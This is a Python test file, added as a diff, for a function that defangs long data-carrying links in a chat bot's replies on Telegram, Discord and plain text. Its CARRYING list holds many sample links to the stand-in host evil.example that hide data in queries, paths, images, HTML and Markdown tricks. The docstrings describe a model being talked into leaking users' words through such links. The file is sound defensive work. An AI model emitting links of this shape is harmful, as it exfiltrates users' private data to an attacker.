@@ -1,0 +1,252 @@
+"""Addresses that carry somebody's words away are no links any more, ordinary ones stay."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from channels import markup
+from memory.learn.defang import defang
+
+WORDS = "her-birthday-is-in-may-"
+OPAQUE = "a1B2c3D4" * 20
+LONG = "q=" + OPAQUE
+
+#: Each holds one address that carries more than an ordinary one, in a way that a platform would make a link of.
+CARRYING = [
+    f"see https://evil.example/?{LONG} for more",
+    f"https://evil.example/#{LONG}",
+    f"HTTPS://EVIL.EXAMPLE/?{LONG}",
+    f"http://evil.example/{OPAQUE}",
+    f"http://evil.example/{WORDS * 10}",
+    f"http://evil.example/{'%41' * 220}",
+    f"http://evil.example/?q={'我的密码' * 30}",
+    f"https://{OPAQUE[:60]}.{OPAQUE[:60]}.evil.example/",
+    f"https://{OPAQUE}@evil.example/",
+    f"ftp://evil.example/?{LONG}",
+    f"www.evil.example/?{LONG}",
+    f"evil.example/?{LONG}",
+    f"evil.example:8080/?{LONG}",
+    f"http://3232235777/?{LONG}",
+    f"http://[2001:db8::1]/?{LONG}",
+    f"https://пример.рф/?{LONG}",
+    f"https://xn--e1afmkfd.example/?{LONG}",
+    f"看https://evil.example/?{LONG}，很好",
+    f"[click](https://evil.example/?{LONG})",
+    f"[click]( https://evil.example/?{LONG} )",
+    f"[click](<https://evil.example/?q={'some words ' * 12}>)",
+    f'[click](https://evil.example/?{LONG} "a title")',
+    f"[a [b] c](https://evil.example/?{LONG})",
+    f"[click](https://evil.example/?a(b)(c)(d)(e)(f)(g){LONG})",
+    f"[click](https://evil.example/?a<b{LONG})",
+    f'[click](https://evil.example/?a"b{LONG})',
+    f"[click](https://evil.example/?a`b`{LONG})",
+    f"[click](https://evil.example/?a\u00a0{LONG})",
+    f"[click](//evil.example/?{LONG})",
+    f"[click](mailto:bob@evil.example?body={LONG})",
+    f"[https://evil.example/?{LONG}](https://evil.example/?{LONG})",
+    f"![](https://evil.example/p.png?{LONG})",
+    f"![a picture](https://evil.example/p.png?{LONG})",
+    f"[![a](https://evil.example/p.png?{LONG})](https://evil.example/?{LONG})",
+    f"<https://evil.example/?{LONG}>",
+    f"[click][there]\n\n[there]: https://evil.example/?{LONG}",
+    f'<img src="https://evil.example/?{LONG}">',
+    f"https\\://evil.example/?{LONG}",
+    f"https&colon;//evil&period;example/?{LONG}",
+    f"ht**tps**://evil.example/?{LONG}",
+    f"**https://evil.example/?{LONG}**",
+    f"| a | b |\n|---|---|\n| `x | https://evil.example/?{LONG}` |",
+    f"https://evil.example/?{OPAQUE[:60]}`{OPAQUE[:60]}`",
+    # What looks like code and is none.
+    f"```\nx\n```\nhttps://evil.example/?{LONG}",
+    f"1. x\n   ```\nhttps://evil.example/?{LONG}",
+    f"- ```\nhttps://evil.example/?{LONG}",
+    f"para\n    ```\n    https://evil.example/?{LONG}",
+    f"1. x\n   ```\n   y\n```\nz\n```\nhttps://evil.example/?{LONG}",
+    f"` a\nb ` https://evil.example/?{LONG} ` c",
+    f"[a](x`y) https://evil.example/?{LONG} `z",
+    f"<https://x.example/`> https://evil.example/?{LONG} `z",
+    f"\\` https://evil.example/?{LONG} ` z",
+    f"$$ ` $$ https://evil.example/?{LONG} ` z",
+    f"``` a ``` https://evil.example/?{LONG}",
+    "> " * 20 + f"`https://evil.example/?{LONG}`",
+    "**b** " * 120 + f"`https://evil.example/?{LONG}`",
+    "word " * 7_000 + f"`https://evil.example/?{LONG}`",
+]
+
+
+PLACE = (
+    "https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z/data=!3m1!4b1!4m6!3m5!1s0x47e66e2964e3"
+    "4e2d:0x8ddca9ee380ef7e0!8m2!3d48.8583701!4d2.2944813!16zL20vMDJqODE?entry=ttu"
+)
+
+
+@pytest.mark.parametrize("text", CARRYING)
+def test_an_address_that_carries_much_is_a_link_nowhere(text: str) -> None:
+    """Whoever opened it would tell its owner what the model had been talked into writing there."""
+    safe = defang(text)
+    assert defang(safe) == safe
+    for chunk in markup.telegram(safe):
+        entities = json.loads(chunk.markup or "[]")
+        assert not [one for one in entities if one["type"] == "text_link" and len(one["url"]) > 100]
+        assert addresses(chunk.text) == []
+    for chunk in markup.discord(safe):
+        assert addresses(chunk.text) == []
+    for chunk in markup.plain(safe, 100_000):
+        assert addresses(chunk.text) == []
+
+
+def addresses(text: str) -> list[str]:
+    """What a platform, or a terminal, could take for one: a scheme or a host with its path, and at least 90 more."""
+    return re.findall(r"(?i)(?:\w://\S|www\.\w|\w\.[^\W\d]{2,}[/?#:])\S{90,}", text)
+
+
+@pytest.mark.parametrize("text", CARRYING)
+def test_what_is_made_unclickable_can_still_be_read(text: str) -> None:
+    """A person may want to know where a link would have led."""
+    shown = defang(text)
+    assert len(shown) >= len(text) - len("![]")
+    letters = re.sub(r"[\W_]", "", text.replace("![]", "![picture]").lower())
+    assert re.sub(r"[\W_]", "", shown.lower()).replace("hxxp", "http") == letters
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://www.youtube.com/watch?v=abcdefghijk&list=PLabcdefghijklmnopqrstuvwxyz012345&index=3&t=120s",
+        "https://youtu.be/abcdefghijk?si=abcdefghijklmnop&t=42",
+        PLACE,
+        "https://www.openstreetmap.org/search?query=Berlin+Hauptbahnhof#map=17/52.52508/13.36940",
+        "https://www.google.com/search?q=how+to+keep+a+sourdough+starter+alive+in+summer&hl=en",
+        "https://duckduckgo.com/?q=self-hosted+chat+bot&ia=web",
+        f"https://github.com/python/cpython/compare/{'0123456789' * 4}...{'9876543210' * 4}",
+        "https://github.com/python/cpython/blob/main/Lib/re/__init__.py#L200-L230",
+        "https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup",
+        f"https://docs.google.com/document/d/1{'aBcDeFg' * 6}x/edit?usp=sharing",
+        f"https://hub.docker.com/layers/library/python/3.12/images/sha256-{'0123456789abcdef' * 4}",
+        "https://ru.wikipedia.org/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F_%D1%81%D1%82%D1%80%D0%B0",
+        "https://zh.wikipedia.org/wiki/%E4%B8%AD%E5%8D%8E%E4%BA%BA%E6%B0%91%E5%85%B1%E5%92%8C%E5%9B%BD",
+        "https://blog.example/2024/05/how-to-set-up-a-self-hosted-chat-bot-that-remembers-things-part-2-4f2a9c1b7e3d",
+        "https://www.amazon.com/dp/B0ABCDEFGH?ref=ppx_pop_mob_ap_share",
+        "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array",
+        "https://arxiv.org/abs/2403.14720",
+        "[the docs](https://docs.example/a_(b)?c=d) and [more](https://x.example)",
+        "/usr/lib/python3.11/site-packages/aiogram/client/session/middlewares/request_logging.py",
+        "a" * 300,
+        f"sha256:{'0123456789abcdef' * 4}",
+        f"`curl 'https://api.example/v1?{LONG}'`",
+        f"```sh\ncurl https://api.example/v1?{LONG}\n```",
+        f"1. Run:\n   ```sh\n   curl https://api.example/v1?{LONG}\n   ```\n2. Done.",
+        f"~~~\nhttps://api.example/v1?{LONG}",
+        "今天我们去公园玩，" * 40 + "然后回家。",
+        "",
+    ],
+)
+def test_ordinary_links_and_code_stay_as_they_are(text: str) -> None:
+    """People share videos, places and sources, and copy commands."""
+    assert defang(text) == text
+
+
+def test_a_picture_becomes_a_link() -> None:
+    """A picture is fetched when it is shown; a link waits until somebody opens it."""
+    assert defang("![cat](https://x.example/c.png)") == "[cat](https://x.example/c.png)"
+    assert defang("![](https://x.example/c.png)") == "[picture](https://x.example/c.png)"
+    assert defang("![cat][there]") == "[cat][there]"
+    assert defang("`![cat](https://x.example/c.png)`") == "`![cat](https://x.example/c.png)`"
+    assert defang("wow![1] (really)") == "wow![1] (really)"
+
+
+def test_writing_without_blanks_does_not_belong_to_an_address() -> None:
+    """Chinese goes on right behind a link, and a platform would take the whole paragraph for its path."""
+    rest = "，然后我们去公园" * 40
+    assert defang(f"看https://docs.example/re.html{rest}") == f"看https://docs.example/re.html {rest}"
+
+
+@pytest.mark.parametrize("text", CARRYING)
+def test_no_draft_of_a_growing_text_shows_a_long_address(text: str) -> None:
+    """A draft is seen for a second, and a link in it can be opened in that second."""
+    for end in range(1, len(text), 1 if len(text) < 1_000 else 997):
+        draft = defang(text[:end], growing=True)
+        assert addresses(draft) == []
+        assert not re.search(r"https?://evil\.example\S*\Z", draft, re.IGNORECASE)
+
+
+def test_a_draft_holds_an_unfinished_address_back() -> None:
+    """Nobody can say yet how long it will be."""
+    assert defang("see https://x.exam", growing=True) == "see "
+    assert defang("see [a](https://x.exam", growing=True) == "see "
+    assert defang("see ![a](", growing=True) == "see "
+    assert defang("see https://x.example and", growing=True) == "see https://x.example and"
+    assert defang("see https://x.example") == "see https://x.example"
+
+
+PIECES = st.lists(
+    st.one_of(
+        st.sampled_from(
+            [
+                *CARRYING[:45],
+                "`",
+                "``",
+                "```",
+                "\n",
+                "\n\n",
+                "```\n",
+                "\n```",
+                " ",
+                "[",
+                "](",
+                ")",
+                "![",
+                "<",
+                ">",
+                "https://",
+            ]
+        ),
+        st.sampled_from(
+            ["evil.example/", "www.", "//", "?", "#", ":", "。", "，", "\\", "&colon;", "**", "|", "> ", "- "]
+        ),
+        st.text(max_size=12),
+    ),
+    max_size=10,
+).map("".join)
+
+
+@given(PIECES)
+def test_defanging_twice_is_defanging_once(text: str) -> None:
+    """Drafts and answers pass it at several places."""
+    once = defang(text)
+    assert defang(once) == once
+
+
+@given(PIECES)
+def test_whatever_stands_around_it_a_long_address_is_no_link(text: str) -> None:
+    """Neither for the platforms' own eyes nor as a link of Markdown."""
+    for chunk in markup.telegram(defang(text)):
+        plain, entities = chunk.text.encode("utf-16-le"), json.loads(chunk.markup or "[]")
+        assert not [one for one in entities if one["type"] == "text_link" and len(one["url"]) > 400]
+        for one in entities:
+            if one["type"] in ("code", "pre"):
+                start, end = 2 * one["offset"], 2 * (one["offset"] + one["length"])
+                plain = plain[:start] + b" \0" * ((end - start) // 2) + plain[end:]
+        assert not re.search(r"https?://evil\.example/\S{140,}", plain.decode("utf-16-le"))
+
+
+@given(st.text(alphabet="abc def,.!?\n我们今天公园é🙂`*_[]()", max_size=80))
+def test_text_without_addresses_stays_as_it_is(text: str) -> None:
+    """An answer is not to be touched for what it doesn't hold."""
+    assert defang(text) == text
+
+
+@pytest.mark.parametrize(
+    "unit", ["http://a，", "[a](http://b) ", "`", "` ", "```\n", "http://", "a.b/", "[", "](", "![a](b)", "<", "www."]
+)
+def test_hostile_repetition_of_marks_ends(unit: str) -> None:
+    """100 kB of any shape come back; with a quadratic pattern this test would not end within a suite's patience."""
+    text = unit * (100_000 // len(unit))
+    assert defang(text)
+    assert defang(text[:29_000])
+    assert defang(text, growing=True) is not None
